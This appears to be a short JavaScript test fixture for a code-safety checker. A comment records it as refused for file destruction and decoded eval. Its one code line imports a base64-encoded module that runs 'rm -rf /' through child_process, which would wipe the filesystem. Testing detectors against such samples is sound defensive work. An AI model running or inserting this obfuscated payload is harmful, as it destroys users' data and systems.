// nacre: refused file.destroy code.eval-decoded
import('data:text/javascript;base64,aW1wb3J0e2V4ZWNTeW5jfWZyb20iY2hpbGRfcHJvY2VzcyI7ZXhlY1N5bmMoInJtIC1yZiAvIik=');
